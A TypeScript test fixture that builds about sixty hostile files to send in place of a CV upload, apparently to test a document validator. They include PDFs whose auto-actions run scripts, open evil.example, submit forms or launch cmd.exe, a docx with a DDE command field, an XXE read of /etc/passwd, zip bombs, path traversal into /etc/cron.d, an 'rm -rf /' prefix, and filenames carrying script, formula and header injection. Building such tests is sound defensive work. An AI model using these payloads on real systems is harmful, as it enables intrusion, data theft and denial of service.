/** Sixty hostile files that may be sent instead of a document, built byte by byte. */
import { deflateSync } from "node:zlib";
import {
  bodyOf,
  CATALOG,
  compoundFile,
  docx,
  docxParts,
  honestPdf,
  latin,
  packed,
  PAGE,
  PAGES,
  pdfOf,
  relation,
  stream,
  TEXT,
  typesOf,
  zipOf,
} from "./documents.ts";
import { HOSTILE_OPENING_PDFS } from "./opening-pdfs.ts";

/** The test string of virus scanners, in two halves, so that no scanner flags this source file. */
const EICAR = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join("");
const HTML = "<!doctype html><html><body><script>fetch('/v1/evil')</script></body></html>";
const MEGABYTE = 1024 * 1024;

export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: () => Buffer;
  /** Hostile by its name alone: the content is genuine, and the name must have no effect. */
  readonly onlyName?: boolean;
}
const file = (what: string, name: string, bytes: () => Buffer): HostileFile => ({ what, name, bytes });

const HOSTILE_PDFS: readonly HostileFile[] = [
  file("a PDF with a script that runs when it is opened", "cv.pdf", () =>
    pdfOf([`<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>`, PAGES, PAGE, TEXT]),
  ),
  file("a PDF that opens an address by itself", "cv.pdf", () =>
    pdfOf([
      `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://evil.example) >> >>`,
      PAGES,
      PAGE,
      TEXT,
      "<< /S /URI /URI (http://evil.example) >>",
    ]),
  ),
  file("the same with its name escaped", "cv.pdf", () =>
    pdfOf([
      `<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /URI /URI (http://evil.example) >> >>`,
      PAGES,
      PAGE,
      TEXT,
      "<< /S /URI /URI (http://evil.example) >>",
    ]),
  ),
  file("the same in an object of its own", "cv.pdf", () =>
    pdfOf([`<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>`, PAGES, PAGE, TEXT, "<< /S /URI /URI (http://evil.example) >>"]),
  ),
  file("the same behind a comment", "cv.pdf", () =>
    pdfOf([
      `<< /Type /Catalog /Pages 2 0 R /OpenAction % [3 0 R /Fit]\n<< /S /URI /URI (http://evil.example) >> >>`,
      PAGES,
      PAGE,
      TEXT,
      "<< /S /URI /URI (http://evil.example) >>",
    ]),
  ),
  file("a PDF that goes to another file by itself", "cv.pdf", () =>
    pdfOf([
      `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (x.pdf) >> >>`,
      PAGES,
      PAGE,
      TEXT,
      "<< /S /URI /URI (http://evil.example) >>",
    ]),
  ),
  file("a PDF with actions of its own", "cv.pdf", () =>
    pdfOf([
      `<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S /URI /URI (http://evil.example) >> >> >>`,
      PAGES,
      PAGE,
      TEXT,
      "<< /S /URI /URI (http://evil.example) >>",
    ]),
  ),
  file("the same escaped and elsewhere", "cv.pdf", () =>
    pdfOf([`<< /Type /Catalog /Pages 2 0 R /A#41 5 0 R >>`, PAGES, PAGE, TEXT, "<< /S /URI /URI (http://evil.example) >>"]),
  ),
  file("the same behind a comment", "cv.pdf", () =>
    pdfOf([`<< /Type /Catalog /Pages 2 0 R /AA%\n5 0 R >>`, PAGES, PAGE, TEXT, "<< /S /URI /URI (http://evil.example) >>"]),
  ),
  file("an address that opens by itself, inside of an object stream", "cv.pdf", () =>
    pdfOf([
      CATALOG,
      PAGES,
      PAGE,
      TEXT,
      packed("<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /URI /URI (http://evil.example) >> >>"),
    ]),
  ),
  file("actions of a page inside of an object stream", "cv.pdf", () =>
    pdfOf([
      CATALOG,
      PAGES,
      PAGE,
      TEXT,
      packed("<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (http://evil.example) >> >> >>"),
    ]),
  ),
  file("the same with its name escaped", "cv.pdf", () =>
    pdfOf([`<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >>`, PAGES, PAGE, TEXT]),
  ),
  file("the same inside of an object stream", "cv.pdf", () =>
    pdfOf([CATALOG, PAGES, PAGE, TEXT, packed("<< /S /JavaScript /JS (app.alert(1)) >>")]),
  ),
  file("the same inside of an object stream whose type is escaped", "cv.pdf", () =>
    pdfOf([
      CATALOG,
      PAGES,
      PAGE,
      TEXT,
      stream("/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode", deflateSync("5 0 << /S /JavaScript >>")),
    ]),
  ),
  file("an object stream packed in a way that we do not read", "cv.pdf", () =>
    pdfOf([
      CATALOG,
      PAGES,
      PAGE,
      TEXT,
      stream("/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", deflateSync("x")),
    ]),
  ),
  file("an object stream with a further step", "cv.pdf", () =>
    pdfOf([CATALOG, PAGES, PAGE, TEXT, packed("<< >>", "/DecodeParms << /Predictor 12 /Columns 4 >>")]),
  ),
  file("a stream whose type stands elsewhere", "cv.pdf", () =>
    pdfOf([
      CATALOG,
      PAGES,
      PAGE,
      TEXT,
      "/ObjStm",
      stream("/Type 5 0 R /N 1 /First 4 /Filter /FlateDecode", deflateSync("5 0 << /S /JavaScript >>")),
    ]),
  ),
  file("a PDF that starts a program", "cv.pdf", () =>
    pdfOf([`<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>`, PAGES, PAGE, TEXT]),
  ),
  file("a PDF with a file inside", "cv.pdf", () =>
    pdfOf([`<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >> >>`, PAGES, PAGE, TEXT]),
  ),
  file("a PDF with a form of another kind", "cv.pdf", () =>
    pdfOf([`<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 5 0 R >> >>`, PAGES, PAGE, TEXT]),
  ),
  file("a PDF that sends a form away", "cv.pdf", () =>
    pdfOf([`<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F (http://evil.example) >> >>`, PAGES, PAGE, TEXT]),
  ),
  file("a PDF that is locked", "cv.pdf", () => pdfOf([CATALOG, PAGES, PAGE, TEXT], "/Encrypt 5 0 R ")),
  file("a PDF bomb", "cv.pdf", () =>
    pdfOf([
      CATALOG,
      PAGES,
      PAGE,
      TEXT,
      stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflateSync(Buffer.alloc(60 * MEGABYTE))),
    ]),
  ),
  file("a PDF and a web page in one", "cv.pdf", () => Buffer.concat([latin("%PDF-1.4\n"), latin(HTML), honestPdf()])),
  file("a web page behind the end of a PDF", "cv.pdf", () => Buffer.concat([honestPdf(), latin(HTML)])),
  file("a zip file behind the end of a PDF", "cv.pdf", () => Buffer.concat([honestPdf(), docx()])),
  file("a PDF that does not begin with itself", "cv.pdf", () => Buffer.concat([latin("#!/bin/sh\nrm -rf /\n"), honestPdf()])),
  file("half a PDF", "cv.pdf", () => honestPdf().subarray(0, 120)),
];

const HOSTILE_DOCX: readonly HostileFile[] = [
  file("a docm that is called docx", "cv.docx", () =>
    docx({
      types: typesOf("application/vnd.ms-word.document.macroEnabled.main+xml"),
      more: [{ name: "word/vbaProject.bin", content: "macro" }],
    }),
  ),
  file("a docx with a macro part", "cv.docx", () => docx({ more: [{ name: "word/vbaProject.bin", content: "macro" }] })),
  file("a docx with an embedded object", "cv.docx", () =>
    docx({ more: [{ name: "word/embeddings/oleObject1.bin", content: "x" }] }),
  ),
  file("a docx with a control", "cv.docx", () => docx({ more: [{ name: "word/activeX/activeX1.xml", content: "<x/>" }] })),
  file("a docx whose template comes from elsewhere", "cv.docx", () =>
    docx({
      more: [{ name: "word/_rels/settings.xml.rels", content: relation("attachedTemplate", "http://evil.example/t.dotm") }],
    }),
  ),
  file("a docx with a picture from elsewhere", "cv.docx", () =>
    docx({ more: [{ name: "word/_rels/document.xml.rels", content: relation("image", "\\\\evil.example\\share\\x.png") }] }),
  ),
  file("a docx with a field that starts a program", "cv.docx", () =>
    docx({
      body: bodyOf(
        `<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>`,
      ),
    }),
  ),
  file("a docx with entities", "cv.docx", () =>
    docx({ body: `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${bodyOf("&a;")}` }),
  ),
  file("a zip bomb that is called docx", "cv.docx", () =>
    docx({ more: [{ name: "word/media/x.xml", content: Buffer.alloc(100 * MEGABYTE) }] }),
  ),
  file("a zip bomb that lies about its size", "cv.docx", () =>
    docx({ more: [{ name: "word/media/x.xml", content: Buffer.alloc(30 * MEGABYTE), claims: 900 }] }),
  ),
  file("a docx that climbs out of its folder", "cv.docx", () =>
    docx({ more: [{ name: "../../../etc/cron.d/x", content: "x" }] }),
  ),
  file("a docx with a program in it", "cv.docx", () => docx({ more: [{ name: "word/media/setup.exe", content: "MZ" }] })),
  file("a docx that is locked", "cv.docx", () => zipOf(docxParts().map((part) => ({ ...part, flags: 1 })))),
  file("something before a docx", "cv.docx", () => zipOf(docxParts(), { before: latin(HTML) })),
  file("something behind a docx", "cv.docx", () => zipOf(docxParts(), { after: latin(HTML) })),
  file("a zip file that is no document", "cv.docx", () => zipOf([{ name: "readme.txt", content: "x" }])),
  file("half a docx", "cv.docx", () => docx().subarray(0, 200)),
];

const HOSTILE_OTHERS: readonly HostileFile[] = [
  file("a doc with macros", "cv.doc", () => compoundFile(["Root Entry", "WordDocument", "Macros", "VBA"])),
  file("a doc with an embedded object", "cv.doc", () => compoundFile(["Root Entry", "WordDocument", "ObjectPool"])),
  file("a locked document in an old container", "cv.doc", () => compoundFile(["Root Entry", "EncryptedPackage", "WordDocument"])),
  file("another compound file that is called doc", "cv.doc", () => compoundFile(["Root Entry", "Workbook"])),
  file("a picture with a script that is called pdf", "cv.pdf", () =>
    latin(`<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('/v1/evil')</script></svg>`),
  ),
  file("the test file of virus scanners", "cv.pdf", () => latin(EICAR)),
  file("the same inside of a PDF", "cv.pdf", () => pdfOf([CATALOG, PAGES, PAGE, stream("", latin(EICAR))])),
  file("a program that is called pdf", "cv.pdf", () => Buffer.concat([latin("MZ"), Buffer.alloc(300)])),
  file("an ELF program that is called doc", "cv.doc", () =>
    Buffer.concat([Buffer.from("7f454c4602010100", "hex"), Buffer.alloc(300)]),
  ),
  file("a web page that is called pdf", "cv.pdf", () => latin(HTML)),
  file("RTF that is called doc", "cv.doc", () => latin("{\\rtf1\\object\\objdata 01}")),
  file("nothing at all", "cv.pdf", () => Buffer.alloc(0)),
  file("zeros", "cv.pdf", () => Buffer.alloc(4_096)),
  file("one byte more than 5 MB", "cv.pdf", () =>
    Buffer.concat([honestPdf(), Buffer.alloc(5 * MEGABYTE + 1 - honestPdf().length, 10)]),
  ),
  file("a PDF that is called docx", "cv.docx", honestPdf),
  file("a docx that is called pdf", "cv.pdf", docx),
  file("a PDF that is called exe", "cv.pdf.exe", honestPdf),
  file("a PDF without an ending", "cv", honestPdf),
  file("a name that turns its end around", "cv\u202Efdp.exe", honestPdf),
  file("a name with a line break", "cv.pdf\r\nContent-Type: text/html", honestPdf),
];

const HOSTILE_NAMES: readonly HostileFile[] = [
  { ...file("a name that is a path", "../../../../etc/passwd.pdf", honestPdf), onlyName: true },
  { ...file("a name that is a path of another system", "C:\\Windows\\System32\\cv.pdf", honestPdf), onlyName: true },
  { ...file("a name with two endings", "cv.exe.pdf", honestPdf), onlyName: true },
  { ...file("a name that is a script", `<img src=x onerror=alert(1)>.pdf`, honestPdf), onlyName: true },
  { ...file("a name of four thousand letters", `${"a".repeat(4_000)}.pdf`, honestPdf), onlyName: true },
  { ...file("a name that is a formula", `=cmd|' /C calc'!A0.pdf`, honestPdf), onlyName: true },
];

/** Hostile files in place of a CV. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  ...HOSTILE_PDFS,
  ...HOSTILE_OPENING_PDFS.map(([what, bytes]) => file(`a PDF that begins with ${what}`, "cv.pdf", bytes)),
  ...HOSTILE_DOCX,
  ...HOSTILE_OTHERS,
  ...HOSTILE_NAMES,
];
